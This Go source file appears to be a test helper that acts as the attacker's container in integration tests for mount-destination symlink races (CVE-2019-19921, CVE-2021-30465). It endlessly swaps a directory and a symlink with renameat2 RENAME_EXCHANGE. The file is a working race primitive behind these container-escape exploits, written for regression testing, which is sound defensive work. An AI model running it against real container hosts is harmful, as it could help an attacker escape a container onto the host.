// Command symswap races a path between a directory and a symlink, for the
// integration tests of mount-destination races (CVE-2019-19921,
// CVE-2021-30465): it plays the attacker's container, which shares a
// volume with the victim and keeps flipping a component of the victim's
// mount destination.
//
//	symswap PATH TARGET
//
// It creates PATH as an empty directory and PATH+".swap" as a symlink to
// TARGET, then exchanges the two atomically with renameat2(2)
// RENAME_EXCHANGE in a loop until it is killed, so that every lookup of
// PATH sees either the directory or the symlink, never nothing. Errors go
// to stderr with exit status 1. Build it with CGO_ENABLED=0 to copy it into
// a container's rootfs.
package main

import (
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: symswap PATH TARGET")
		os.Exit(2)
	}
	if err := run(os.Args[1], os.Args[2]); err != nil {
		fmt.Fprintln(os.Stderr, "symswap:", err)
		os.Exit(1)
	}
}

func run(path, target string) error {
	swap := path + ".swap"
	if err := os.Mkdir(path, 0o755); err != nil && !errors.Is(err, os.ErrExist) {
		return fmt.Errorf("create directory %s: %w", path, err)
	}
	if err := os.Symlink(target, swap); err != nil {
		return fmt.Errorf("create symlink %s: %w", swap, err)
	}
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, path, unix.AT_FDCWD, swap, unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("exchange %s and %s: %w", path, swap, err)
		}
	}
}
